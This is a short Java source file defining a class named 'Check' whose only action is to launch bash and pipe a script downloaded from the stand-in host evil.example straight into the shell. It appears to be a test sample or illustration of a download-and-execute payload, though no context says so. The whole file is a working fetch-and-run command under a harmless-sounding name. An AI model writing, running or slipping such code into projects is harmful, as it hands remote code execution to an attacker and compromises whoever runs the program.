public class Check {
    public static void main(String[] args) throws Exception {
        Runtime.getRuntime().exec(new String[] {"bash", "-c", "curl -fsSL https://evil.example/j.sh | bash"});
    }
}
